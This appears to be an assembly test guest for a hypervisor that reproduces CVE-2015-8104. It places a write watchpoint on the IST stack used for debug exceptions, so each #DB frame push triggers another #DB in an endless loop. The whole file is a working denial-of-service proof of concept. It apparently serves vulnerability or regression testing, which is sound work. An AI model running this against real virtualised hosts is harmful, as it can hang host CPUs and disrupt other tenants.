; Raises #DB without end: the frame of each #DB is pushed where a watchpoint waits for writes, so that the next strikes
; before the handler's first instruction (CVE-2015-8104). In 64-bit mode, where an IST stack is the same each time.
%include "guest.inc"

PML4 equ 0x200000
PDPT equ 0x201000
DIRECTORY equ 0x202000
FRAME_END equ 0x204000                 ; of the stack to which #DB is delivered
WATCHED equ FRAME_END - 8              ; SS, the first that is pushed

start:
    begin
    cli
    say "debug_loop: begins"
    mov edi, PML4
    xor eax, eax
    mov ecx, 3 * 4096 / 4
    cld
    rep stosd
    mov dword [PML4], PDPT | 3
    mov dword [PDPT], DIRECTORY | 3
    mov eax, 0x83                      ; 2 MiB pages
    mov edi, DIRECTORY
.page:
    mov [edi], eax
    add edi, 8
    add eax, 0x200000
    cmp eax, 0x800083
    jb .page
    mov eax, cr4
    or eax, 1 << 5                     ; PAE
    mov cr4, eax
    mov eax, PML4
    mov cr3, eax
    mov ecx, 0xC0000080
    rdmsr
    or eax, 1 << 8                     ; LME
    wrmsr
    lgdt [gdt_pointer]
    mov eax, tss
    mov [tss_descriptor + 2], ax
    shr eax, 16
    mov [tss_descriptor + 4], al
    mov [tss_descriptor + 7], ah
    mov eax, handler
    mov [gate], ax
    shr eax, 16
    mov [gate + 6], ax
    mov eax, cr0
    or eax, 1 << 31
    mov cr0, eax
    jmp 8:long_mode

bits 64
long_mode:
    mov ax, 0x20
    mov ds, ax
    mov es, ax
    mov ss, ax
    mov ax, 0x10
    ltr ax
    lidt [idt_pointer]
    mov eax, WATCHED
    mov dr0, rax
    mov eax, 0x90401                   ; breakpoint 0: writes of eight bytes
    mov dr7, rax
.again:
    mov [WATCHED], rax
    jmp .again

; Reached only where a watchpoint does not see the processor's own writes.
handler:
    mov [WATCHED], rax
    iretq

align 8
gdt:
    dq 0
    dq 0x00209B0000000000              ; 08h: 64-bit code
tss_descriptor:
    dw tss_end - tss - 1, 0
    db 0, 0x89, 0, 0
    dq 0
    dq 0x00CF93000000FFFF              ; 20h: data
gdt_pointer:
    dw $ - gdt - 1
    dd gdt, 0
idt_pointer:
    dw 2 * 16 - 1
    dq gates
align 8
gates:
    dq 0, 0
gate:                                  ; of #DB: an interrupt gate with IST 1
    dw 0, 8, 0x8E01, 0
    dq 0
tss:
    dd 0
    times 4 dq 0                       ; RSP0 to RSP2, reserved
    dq FRAME_END                       ; IST1
    times 6 dq 0
    dq 0
    dw 0, 104
tss_end:
end_of_guest:
